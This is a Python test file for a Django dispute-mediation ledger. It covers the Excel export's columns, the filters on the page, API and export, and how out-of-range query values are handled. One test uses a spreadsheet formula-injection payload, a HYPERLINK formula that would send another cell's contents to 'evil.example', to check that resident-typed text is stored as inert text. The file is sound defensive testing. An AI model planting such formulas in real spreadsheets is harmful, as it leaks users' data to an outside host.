"""The ledger's filters (kind, state, grid, month) on the page, in the API and in the Excel export, which
has the columns of a community's paper ledger; out-of-range numbers in the query string are ignored, never a
500."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from linli.mediation.actions import dispute_transition


def _sheet(client, query: str):
    from openpyxl import load_workbook

    r = client.get(reverse("mediation:ledger_export") + query)
    assert r.status_code == 200
    return load_workbook(io.BytesIO(r.getvalue())).active  # streamed from a temporary file


def _rows(client, query: str) -> list[tuple]:
    return list(_sheet(client, query).iter_rows(values_only=True))


@pytest.fixture
def ledger(world, file_dispute, dispute_in_state, grid_worker_b, mediator, mediator_user):
    """A settled-and-followed-up neighbour dispute in grid A (written agreement), a family one in grid B,
    a registered one in grid A filed last month."""
    d = dispute_in_state("settled")
    d = dispute_transition(dispute=d, name="follow_up", actor=mediator_user, data={"fulfilled": True, "note": "已履行"})
    family = file_dispute(actor=grid_worker_b, place=world.grid_b, kind="family", amount="3000")
    last_month = timezone.now() - dt.timedelta(days=40)
    old = file_dispute(reported_at=last_month)
    return {"done": d, "family": family, "old": old, "last_month": timezone.localtime(last_month).strftime("%Y-%m")}


def test_the_export_has_the_paper_ledgers_columns_and_values(client, community_staff, ledger):
    client.force_login(community_staff)
    rows = _rows(client, "?status=")
    assert rows[0] == ("序号", "编号", "登记日期", "类型", "当事人", "纠纷情况", "发生地点", "来源", "风险等级",
                       "涉及金额（元）", "调解方式", "主调解员", "状态", "调解结果", "调解协议", "回访情况", "调解期限",
                       "办结日期")
    assert [r[0] for r in rows[1:]] == [1, 2, 3]
    by_number = {r[1]: r for r in rows[1:]}
    done = by_number[ledger["done"].number]
    year = timezone.localdate().year
    assert done[3:5] == ("邻里纠纷", "王**、李**")
    assert done[10:16] == ("专题调", "郑海", "已回访", "达成协议", f"测试一社区人调〔{year}〕第001号", "已履行")
    assert done[16] == ledger["done"].due_on.isoformat() and done[17] == timezone.localdate().isoformat()
    family = by_number[ledger["family"].number]
    assert family[3] == "家庭纠纷" and family[6] == "第二网格" and family[9] == 3000.0 and family[12] == "已登记"


def test_the_filters_on_the_page_the_api_and_the_export(client, world, community_staff, ledger):
    client.force_login(community_staff)
    cases = {
        "?status=&kind=family": {ledger["family"].number},
        "?status=followed_up": {ledger["done"].number},
        "?status=open": {ledger["family"].number, ledger["old"].number},
        f"?status=&grid={world.grid_b.pk}": {ledger["family"].number},
        f"?status=&month={ledger['last_month']}": {ledger["old"].number},
    }
    for query, expected in cases.items():
        assert {r[1] for r in _rows(client, query)[1:]} == expected, query
        page = client.get(reverse("mediation:disputes") + query).content.decode()
        assert page.count('data-testid="dispute-row"') == len(expected), query
        assert all(n in page for n in expected), query
        api = client.get("/api/v1/disputes" + query).json()["items"]
        assert {i["number"] for i in api} == expected, query


def test_what_a_resident_typed_is_text_in_the_export_never_a_formula(client, community_staff, file_dispute):
    """The ledger wrote the facts through openpyxl, which made text starting with = a live formula."""
    facts = '=HYPERLINK("http://evil.example/?"&E2,"查看详情")'
    d = file_dispute(facts=facts)
    client.force_login(community_staff)
    sheet = _sheet(client, "?status=")
    [cell] = [row[5] for row in sheet.iter_rows(min_row=2) if row[1].value == d.number]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (facts, "s", True)
    assert client.get(reverse("mediation:ledger_export"))["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E7%9F%9B%E7%9B%BE%E7%BA%A0%E7%BA%B7%E5%8F%B0%E8%B4%A6.xlsx")


@pytest.mark.parametrize("query", ["?after=99999999999999999999999", "?grid=99999999999999999999999",
                                   "?compound=-99999999999999999999", "?month=99999-99", "?month=2026-13",
                                   "?after=abc&grid=x&kind=" + "k" * 300])
def test_out_of_range_filters_are_ignored(client, community_staff, ledger, query):
    client.force_login(community_staff)
    assert client.get(reverse("mediation:disputes") + query).status_code == 200
    assert client.get(reverse("mediation:ledger_export") + query).status_code == 200
    assert client.get("/api/v1/disputes" + query).status_code in (200, 422)  # a clear error, never a 500
